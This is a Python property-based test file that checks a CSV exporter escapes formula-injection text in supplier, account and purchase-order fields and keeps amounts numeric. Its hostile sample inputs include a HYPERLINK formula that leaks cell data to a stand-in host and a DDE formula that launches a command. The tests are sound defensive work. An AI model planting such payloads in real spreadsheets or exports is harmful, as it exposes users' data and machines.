"""CSV formula injection: every file we write is safe to open in a spreadsheet.

The only CSV files the product writes are the `/inbound/` master-data files
(`masterdata/inbound.py`); ERP text (supplier names, descriptions, codes) is attacker-reachable
there. The documented contract, tested as written: a text cell starting with `=`, `+`, `-`,
`@`, tab, carriage return or NUL is written with a leading `'`; numeric columns are plain
decimal text and stay numbers (a credit of -5.00 is not prefixed); a numeric column refuses
anything but an int or a finite Decimal, so text cannot be smuggled in through one. The code
does not claim full-width variants (U+FF1D ...), so they are not asserted.
"""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bridge_pipelines.erps.base import (
    DimensionType,
    ErpDimension,
    ErpGlAccount,
    ErpPurchaseOrderLine,
    ErpVendor,
)
from bridge_pipelines.masterdata import inbound

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30)
hostile_text = st.one_of(
    any_text,
    st.tuples(st.sampled_from([*TRIGGERS, "'", " =", "\n="]), any_text).map("".join),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1, "click")',
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "=1,2\n=3",
            '"=1+1"',
        ]
    ),
)
optional_text = st.one_of(st.none(), hostile_text)
money = st.decimals(
    min_value=Decimal("-1e15"), max_value=Decimal("1e15"), places=2, allow_nan=False
)


def expected(value: str | None) -> str:
    """What a text cell must read back as: the value, `'`-prefixed when it would be a formula."""
    if value is None:
        return ""
    return "'" + value if value[:1] in TRIGGERS else value


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_text_cells_safe(rows: list[list[str]], numeric: set[int] = frozenset()) -> None:  # type: ignore[assignment]
    for row in rows[1:]:
        for index, cell in enumerate(row):
            if index not in numeric:
                assert cell[:1] not in TRIGGERS, f"formula-like text cell {cell!r}"


@given(
    st.lists(
        st.tuples(hostile_text, hostile_text, optional_text, optional_text, optional_text),
        max_size=5,
    ),
    st.dictionaries(hostile_text, hostile_text, max_size=3),
)
@example([("=SUP1", "=1+1", "-tax", "@USD", "\tnet30")], {"=SUP1": "+V-1"})
def test_vendors(rows: list[tuple], ids: dict[str, str]) -> None:
    vendors = [
        ErpVendor(code=c, name=n, tax_id=t, currency=cur, terms_code=terms)
        for c, n, t, cur, terms in rows
    ]
    written = read_back(inbound.vendors_csv(vendors, ids))
    assert written[0] == list(inbound.VENDORS.columns)
    assert_text_cells_safe(written)
    by_code = sorted(vendors, key=lambda v: v.code)
    for vendor, cells in zip(by_code, written[1:], strict=True):
        assert cells == [
            expected(ids.get(vendor.code, vendor.code)),
            expected(vendor.name),
            expected(vendor.tax_id),
            expected(vendor.currency),
            expected(vendor.terms_code),
            "Active",
            expected(vendor.code),
        ]


@given(st.lists(st.tuples(hostile_text, hostile_text, optional_text, st.booleans()), max_size=5))
def test_gl_accounts(rows: list[tuple]) -> None:
    accounts = [ErpGlAccount(code=c, name=n, account_type=t, active=a) for c, n, t, a in rows]
    written = read_back(inbound.gl_accounts_csv(accounts))
    assert_text_cells_safe(written)
    for account, cells in zip(sorted(accounts, key=lambda a: a.code), written[1:], strict=True):
        assert cells[:2] == [expected(account.code), expected(account.name)]
        assert cells[2] == expected(inbound.stampli_account_type(account.account_type))
        assert cells[3] == ("true" if account.active else "false")


@given(
    st.lists(
        st.tuples(st.sampled_from(list(DimensionType)), hostile_text, hostile_text), max_size=5
    )
)
def test_dimensions(rows: list[tuple]) -> None:
    dimensions = [ErpDimension(type=t, code=c, name=n) for t, c, n in rows]
    written = read_back(inbound.dimensions_csv(dimensions))
    assert_text_cells_safe(written)
    for dimension, cells in zip(
        sorted(dimensions, key=lambda d: (str(d.type), d.code)), written[1:], strict=True
    ):
        assert cells[1:3] == [expected(dimension.code), expected(dimension.name)]


@given(
    st.lists(
        st.tuples(hostile_text, hostile_text, hostile_text, hostile_text, money, money, money),
        max_size=5,
    )
)
@example([("=PO", "-SUP", "@desc", "+USD", Decimal("-2"), Decimal("-5.00"), Decimal("10.00"))])
def test_purchase_orders_text_is_neutralised_and_money_stays_numeric(rows: list[tuple]) -> None:
    lines = [
        ErpPurchaseOrderLine(
            po_number=po,
            line=index + 1,
            vendor_code=vendor,
            description=description,
            quantity=quantity,
            unit_price=price,
            amount=amount,
            currency=currency,
        )
        for index, (po, vendor, description, currency, quantity, price, amount) in enumerate(rows)
    ]
    written = read_back(inbound.purchase_orders_csv(lines))
    columns = list(inbound.PURCHASE_ORDERS.columns)
    numeric = {columns.index(c) for c in inbound.PURCHASE_ORDERS.numeric}
    assert_text_cells_safe(written, numeric)
    for line, cells in zip(
        sorted(lines, key=lambda p: (p.po_number, p.line)), written[1:], strict=True
    ):
        row = dict(zip(columns, cells, strict=True))
        assert row["PONumber"] == expected(line.po_number)
        assert row["VendorId"] == expected(line.vendor_code)
        assert row["ItemDescription"] == expected(line.description)
        assert row["Currency"] == expected(line.currency)
        # Money and quantities: plain decimal text, the exact value, a minus sign kept as is.
        if line.quantity:
            assert Decimal(row["Quantity"]) == line.quantity
            assert Decimal(row["UnitCost"]) == line.unit_price
        else:  # a service line: no quantity claimed
            assert row["Quantity"] == row["UnitCost"] == ""
        assert Decimal(row["LineAmount"]) == line.amount
        assert Decimal(row["OpenAmount"]) == inbound.open_amount(line)
        for column in inbound.PURCHASE_ORDERS.numeric:
            assert not row[column].startswith("'")
            # A plain number a spreadsheet reads as a number: digits, a '-' at most, no prefix.
            assert re.fullmatch(r"(-?[0-9]+(\.[0-9]+)?)?", row[column]), row[column]
            assert "E" not in row[column].upper()


@given(st.sampled_from(sorted(inbound.LAYOUTS)), st.data())
def test_any_cell_value_in_any_column(kind: str, data: st.DataObject) -> None:
    """render_csv itself: text neutralised, numbers plain, text refused in numeric columns."""
    layout = inbound.LAYOUTS[kind]  # type: ignore[index]
    column = data.draw(st.sampled_from(layout.columns))
    value = data.draw(
        st.one_of(
            hostile_text,
            st.none(),
            st.booleans(),
            st.integers(),
            st.decimals(allow_nan=False, allow_infinity=False),
        )
    )
    if column in layout.numeric and (isinstance(value, str | bool)):
        with pytest.raises(TypeError):
            inbound.render_csv(layout, [{column: value}])
        return
    written = read_back(inbound.render_csv(layout, [{column: value}]))
    cell = written[1][layout.columns.index(column)]
    if isinstance(value, str):
        assert cell == expected(value)
    elif isinstance(value, bool):
        assert cell == ("true" if value else "false")
    elif value is None:
        assert cell == ""
    else:
        assert Decimal(cell) == value and cell[:1] in "-0123456789"


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity"), Decimal("-Infinity"), 1.5])
def test_numeric_columns_refuse_non_finite_and_floats(value: object) -> None:
    with pytest.raises(TypeError):
        inbound.render_csv(inbound.PURCHASE_ORDERS, [{"LineAmount": value}])
